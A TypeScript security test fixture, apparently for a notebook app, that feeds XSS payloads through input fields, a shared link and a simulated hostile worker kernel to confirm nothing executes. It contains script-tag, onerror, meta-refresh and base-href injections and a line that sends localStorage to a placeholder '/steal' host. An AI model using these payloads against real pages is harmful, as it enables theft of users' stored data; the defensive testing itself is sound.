import { deflateRawSync } from 'node:zlib';

/* One press of Run on the code of a link must give a stranger nothing: no script in the page, no other page. */

/** What would show that the chain held: the page's title becomes `owned`, or the reader is led elsewhere. */
const script =
  "document.title = 'owned'; location.href = 'http://127.0.0.1:9/steal?' + JSON.stringify(localStorage)";

const markups = [
  `0"><script src="BLOB"></script>`,
  `0"><script>${script}</script>`,
  `0"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/steal">`,
  `0"><img src="x" onerror="${script}">`,
  `0"><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>`,
  `0"><form action="http://127.0.0.1:9/steal"><button id="go">δ</button></form>`,
  `0"><base href="http://127.0.0.1:9/">`,
];

/** Tries each markup in every field of every input; says how many were refused, and draws those that may hold text. */
const hostileCode = `const evil = URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: 'text/javascript' }));
const markups = ${JSON.stringify(markups)}.map((text) => text.replace('BLOB', evil));
let refused = 0;
for (const text of markups) {
  for (const field of ['min', 'max', 'step', 'value']) {
    for (const make of [slider, number] as any[]) {
      try { make({ label: 'δ', min: 0, max: 1, [field]: text }); } catch { refused += 1; }
      try { make({ label: 'δ', min: 0, max: 1, [field]: { toString: () => text, valueOf: () => text } }); } catch { refused += 1; }
      try { make({ label: 'δ', min: 0, max: 1, [field]: [text] }); } catch { refused += 1; }
    }
  }
  (slider as any)({ label: text, min: 0, max: 1 });
  (select as any)({ label: 'of ' + text, options: [text] });
}
(slider as any)({ label: 'δ', min: markups[0], max: 1 });`;

/** How many inputs the code draws: a slider and a select for each markup. */
export const drawn = 2 * markups.length;

/** A link with the code, as one stranger would send it to another. */
export const hostileLink = (cell: string): string =>
  `#cell=${cell}&code=${deflateRawSync(hostileCode).toString('base64url')}`;

/** Its inputs: one for each markup that is a key, and two with keys of their own. */
export const drawnByKernel = markups.length + 2;

/** A kernel that posts what no kernel does, then ends its run as one would: what if a reader's code had taken it over? */
export const hostileKernel = `
const markups = ${JSON.stringify(markups)};
addEventListener('message', ({ ports: [port] }) => {
  port.onmessage = ({ data: { run, targets: [cell] } }) => {
    const post = (message) => port.postMessage({ run, cell, ...message });
    post({ type: 'heard' });
    post({ type: 'started' });
    for (const text of markups) {
      for (const value of [text, [text], { text }, NaN, null, undefined, 1n, new Map(), new Uint8Array(9)]) {
        const control = { kind: 'slider', key: 'k', label: 'l', min: 0, max: 1, step: 1, value: 0 };
        for (const field of Object.keys(control)) post({ type: 'control', control: { ...control, [field]: value } });
        for (const type of ['shown', 'control', 'progress', 'failed', 'blocked', text])
          post({ type, shown: value, control: value, fraction: value, label: value, error: value, by: [value], late: true });
        post({ type: 'shown', shown: { kind: 'value', html: typeof value === 'string' ? 1 : value } });
        post({ type: 'shown', shown: { kind: 'cut', count: value } });
        const error = { message: 'an error without its place', position: { line: value, column: value }, frame: '' };
        post({ type: 'failed', late: true, error });
        port.postMessage(value);
      }
    }
    post({ type: 'control', control: { kind: 'toggle', key: 'toggle on', label: markups[0], value: true } });
    post({ type: 'finished', milliseconds: 1 });
    post({ type: 'settled' });
  };
});`;
